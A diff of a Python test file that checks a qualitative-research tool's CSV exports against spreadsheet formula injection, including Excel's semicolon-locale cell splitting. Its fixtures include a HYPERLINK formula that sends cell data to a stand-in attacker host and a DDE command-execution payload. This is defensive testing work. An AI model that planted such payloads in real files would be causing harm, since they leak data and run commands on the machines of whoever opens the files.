@@ -9,6 +9,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import zipfile
 
 import pytest
@@ -22,7 +23,7 @@ from wei_qual.models import Code, Codebook, Decision
 from wei_qual.spreadsheet import TRIGGERS, neutralise_cell, restore_cell
 from wei_qual.store import open_db, transaction
 from wei_qual.store.codebooks import save_codebook_version
-from wei_qual.store.decisions import iter_decisions, save_decision
+from wei_qual.store.decisions import iter_decisions, save_decision, save_memo
 from wei_qual.store.transcripts import save_transcript
 
 LEAK = '=HYPERLINK("http://attacker.example/?leak="&A1, "Click for the full quote")'
@@ -249,6 +250,9 @@ def test_csv_text_neutralises_column_by_column_exactly_as_row_by_row():
         "\rx",
         "memo\r=cmd|' /C calc'!A0",  # a bare carriage return: a spreadsheet starts a row there
         "a\r\nb",
+        "note;=HYPERLINK(1)",  # a ";": Excel in a German or French locale starts a cell there
+        "yes;-) then",
+        "line\n@x",
         "'=",
         "''",
         "'a",
@@ -277,3 +281,72 @@ def test_csv_text_neutralises_column_by_column_exactly_as_row_by_row():
         assert read(csv_text(header, rows)) == row_by_row(header, rows)
         assert read(csv_text(header, iter(rows))) == row_by_row(header, rows)
         assert read("".join(csv_lines(rows))) == row_by_row(header, rows)[1:]
+
+
+# Excel in a locale whose list separator is ";" (German, French, ...) opens our comma CSVs split at every
+# ";" and ends a row at every line break, quoted or not: the text after one is a cell of its own.
+SEMI = "Good;" + LEAK + ";then\n" + DDE + ";-) and ;'=kept"
+_EXCEL_SEMICOLON_CELLS = re.compile(r"[;\n\r]")
+
+
+def _assert_inert_in_a_semicolon_locale(text: str) -> list[list[str]]:
+    rows = _assert_inert(text)
+    for line in text.splitlines():
+        for cell in _EXCEL_SEMICOLON_CELLS.split(line):
+            assert not (cell[:1] in TRIGGERS and cell[:2] not in ("-)", "+)") and not _is_number(cell)), cell
+    return rows
+
+
+@pytest.fixture
+def semicolon_project(tmp_path):
+    path = tmp_path / "study.db"
+    db = open_db(path)
+    with transaction(db):
+        save_transcript(db, transcript("p1", [SEMI + WORDS, "We waited." + WORDS], {"role": "nurse;=1+1"}))
+        save_codebook_version(db, CODEBOOK, "name: x\n")
+        for coder in ("alice", "bob"):
+            for n in (1, 2):
+                codes = {"beds" if coder == "bob" and n == 2 else "wait"}
+                save_decision(db, Decision("p1", n, coder, frozenset(codes), note=f"{coder};{LEAK}"))
+        save_memo(db, "alice", "segment", "p1:1", "memo;" + DDE)
+    db.close()
+    return path
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["report", "quotes", "--source", "union", "--format", "csv"],
+        ["report", "themes", "--source", "union", "--by", "role", "--format", "csv"],
+        ["report", "matrix", "--source", "union", "--format", "csv"],
+        ["retrieve", "wait", "--source", "union", "--format", "csv"],
+        ["search", "waited", "--format", "csv"],
+        ["memos", "--format", "csv"],
+        ["decisions", "export"],
+        ["agree", "--disagreements", "--format", "csv"],
+    ],
+)
+def test_no_csv_starts_a_formula_after_a_semicolon_or_a_line_break(runner, semicolon_project, args):
+    rows = _assert_inert_in_a_semicolon_locale(_run(runner, args, semicolon_project).stdout)
+    assert len(rows) > 1
+
+
+def test_the_apostrophes_after_a_semicolon_are_taken_off_on_import(runner, semicolon_project, tmp_path):
+    db = open_db(semicolon_project)
+    before = {(d.segment, d.coder): d.note for d in iter_decisions(db)}
+    out = tmp_path / "all.csv"
+    _run(runner, ["decisions", "export", "-o", str(out)], semicolon_project)
+    assert "alice;'" + LEAK.replace('"', '""') in out.read_text(encoding="utf-8")
+    with transaction(db):
+        db.execute("DELETE FROM decisions")
+    db.close()
+    _run(runner, ["decisions", "import", str(out)], semicolon_project)
+    assert {(d.segment, d.coder): d.note for d in iter_decisions(open_db(semicolon_project))} == before
+
+
+@given(st.text(alphabet=";\n\r'=+-@)\tx\uff1d", max_size=12))
+def test_restore_undoes_neutralise_after_semicolons_and_line_breaks(text):
+    cell = neutralise_cell(text)
+    assert restore_cell(cell) == text
+    for piece in _EXCEL_SEMICOLON_CELLS.split(cell):
+        assert piece[:1] not in TRIGGERS or piece[:2] in ("-)", "+)")
